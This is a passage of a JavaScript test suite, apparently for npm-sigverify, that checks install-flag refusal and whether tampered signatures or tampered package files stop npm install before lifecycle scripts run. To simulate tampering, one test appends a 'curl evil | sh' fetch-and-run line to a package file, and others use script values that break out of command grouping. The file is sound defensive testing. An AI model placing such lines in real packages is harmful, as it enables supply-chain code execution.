  for (const extra of [
    ['--ignore-scripts=false'], ['--'], ['--no-ignore-scripts'], [`--prefix=${prefix}`], ['--ignore-script=false'],
    ['--ignore-scripts', 'false'], ['--global'], ['-g'], ['--registry=http://127.0.0.1:9/'], ['--script-shell=/bin/sh'],
    ['--omit=dev', '--no-ignore-scripts'],
    // An allowed flag without its value takes the next argument as its value: npm ci would
    // read `--cache --ignore-scripts` as cache="--ignore-scripts" and run every install script.
    ['--cache'], ['--omit'], ['--loglevel'], ['--include'], ['--fetch-timeout'], ['--omit=dev', '--cache'],
  ]) {
    it(`install -- ${extra.join(' ')} is refused (exit 2, EUSAGE) before npm runs; no script runs`, async () => {
      const { r, state } = await safeInstall(extra)
      record(`install -- ${extra.join(' ')}`, refused, state)
      assert.deepEqual(state, refused, r.output)
      assert.ok(!fs.existsSync(path.join(prefix, 'node_modules')), 'npm installed into --prefix')
    })
  }

  describe('init keeps a failed verification fatal whatever the existing script holds', () => {
    const mark = (m) => `node -e "require('fs').writeFileSync('${m}', 'ran')"`
    const markers = () => ({ pre: exists(hooked, 'pre.ran'), post: exists(hooked, 'post.ran') })
    const clear = () => { for (const m of ['pre.ran', 'post.ran']) fs.rmSync(path.join(hooked, m), { force: true }) }
    const npmInstall = () => run('npm', ['install'], { cwd: hooked, env: { npm_config_registry: url, npm_config_cache: npmCache, npm_config_audit: 'false', npm_config_fund: 'false', npm_config_update_notifier: 'false' } })

    async function initWith (scripts) {
      const file = path.join(hooked, 'package.json')
      writeJson(file, { ...readJson(file), scripts })
      const r = await run(process.execPath, [bin, 'init'], { cwd: hooked })
      assert.equal(r.status, 0, r.output)
      clear()
      return readJson(file).scripts
    }

    const variants = [
      { name: '`|| true` before, `; exit 0` after', scripts: { preinstall: `${mark('pre.ran')} || true`, postinstall: `${mark('post.ran')}; exit 0` } },
      { name: '`; exit 0` before, `|| true` after', scripts: { preinstall: `${mark('pre.ran')}; exit 0`, postinstall: `${mark('post.ran')} || true` } },
      {
        name: 'the ungrouped form older versions wrote, with `|| exit 0`',
        scripts: { preinstall: `npm-sigverify verify --lockfile-only && ${mark('pre.ran')} || exit 0`, postinstall: `npm-sigverify verify && ${mark('post.ran')} || true` },
      },
    ]

    for (const [i, v] of variants.entries()) {
      it(`${v.name}: init groups it; clean install runs it, a tampered signature or tampered files fail npm install before it`, async () => {
        const scripts = await initWith(v.scripts)
        assert.match(scripts.preinstall, /^npm-sigverify verify --lockfile-only && \(.*\)$/)
        assert.match(scripts.postinstall, /^npm-sigverify verify && \(.*\)$/)
        if (i === 0) {
          const ok = await npmInstall()
          assert.equal(ok.status, 0, ok.output)
          assert.deepEqual(markers(), { pre: true, post: true }, 'control: after a passed verification the user\'s scripts run')
          clear()
        }
        registry.tamper.add('plain@1.0.0')
        const tampered = await npmInstall()
        registry.tamper.clear()
        const afterSignature = { exit: tampered.status !== 0, ...markers() }
        record(`init (${v.name}): tampered signature`, { exit: true, pre: false, post: false }, afterSignature)
        assert.deepEqual(afterSignature, { exit: true, pre: false, post: false }, tampered.output)
        assert.match(tampered.output, /EINTEGRITYSIGNATURE/)
        clear()
        // Files changed in node_modules: the lockfile still verifies, the postinstall verify fails.
        const index = path.join(hooked, 'node_modules', 'plain', 'index.js')
        const original = fs.readFileSync(index)
        fs.appendFileSync(index, 'require("child_process").execSync("curl evil | sh")\n')
        let changed
        try {
          changed = await npmInstall()
        } finally {
          fs.writeFileSync(index, original)
        }
        const afterContent = { exit: changed.status !== 0, post: markers().post }
        record(`init (${v.name}): tampered files`, { exit: true, post: false }, afterContent)
        assert.deepEqual(afterContent, { exit: true, post: false }, changed.output)
        assert.match(changed.output, /ECONTENTMODIFIED/)
        clear()
      })
    }

    it('existing scripts that close the group themselves (`true ) ; ( node mark.js`): init refuses them, or a tampered signature still fails npm install before they run', async () => {
      const file = path.join(hooked, 'package.json')
      writeJson(file, { ...readJson(file), scripts: { preinstall: `true ) ; ( ${mark('pre.ran')}`, postinstall: `true ) ; ( ${mark('post.ran')}` } })
      const before = fs.readFileSync(file, 'utf8')
      const init = await run(process.execPath, [bin, 'init'], { cwd: hooked })
      if (init.status !== 0) {
        record('init: scripts closing the group', { initRefused: true }, { initExit: init.status })
        assert.equal(init.status, 2, init.output)
        assert.equal(fs.readFileSync(file, 'utf8'), before)
        return
      }
      clear()
      registry.tamper.add('plain@1.0.0')
      const tampered = await npmInstall()
      registry.tamper.clear()
      const state = { initExit: init.status, npmFailed: tampered.status !== 0, ...markers(), scripts: readJson(file).scripts }
      clear()
      record('init: scripts closing the group', { initRefused: true, or: { npmFailed: true, pre: false, post: false } }, state)
      assert.deepEqual({ npmFailed: state.npmFailed, pre: state.pre, post: state.post }, { npmFailed: true, pre: false, post: false }, `init wrote ${JSON.stringify(state.scripts)}: the failed verification no longer stops npm install or the user's scripts\n${tampered.output}`)
    })

    it('a script init cannot group safely (a shell comment) is refused and left alone', async () => {
      const file = path.join(hooked, 'package.json')
      writeJson(file, { ...readJson(file), scripts: { preinstall: `${mark('pre.ran')} # || true` } })
      const before = fs.readFileSync(file, 'utf8')
      const r = await run(process.execPath, [bin, 'init'], { cwd: hooked })
      record('init: a script with a shell comment', { exit: 2 }, { exit: r.status })
      assert.equal(r.status, 2, r.output)
      assert.equal(fs.readFileSync(file, 'utf8'), before)
    })
  })
})
